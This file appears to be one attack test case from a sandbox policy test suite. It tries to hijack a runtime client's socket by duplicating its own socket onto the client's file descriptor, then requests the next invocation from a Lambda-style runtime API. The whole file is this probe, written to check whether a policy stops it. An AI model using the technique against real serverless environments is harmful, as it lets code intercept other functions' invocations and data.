# class: lambda
# rule: runtime_api
# policy: client.yaml
# success: the runtime client connects a socket of other code, which was put at the fd of its own
# proof: next
# needs: gcc
import os
import socket
import time

from attack import API, attempt, patience
from runtime_connection import start


@attempt
def ask():
    own = socket.socket()
    os.dup2(own.fileno(), start(CLIENT_WAITS="300", CLIENT_SILENT="1"))
    end = time.monotonic() + patience(2)
    while time.monotonic() < end:
        try:
            if own.getpeername() == API:
                break
        except OSError:
            time.sleep(0.01)
    return own.send(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\n\r\n") > 0
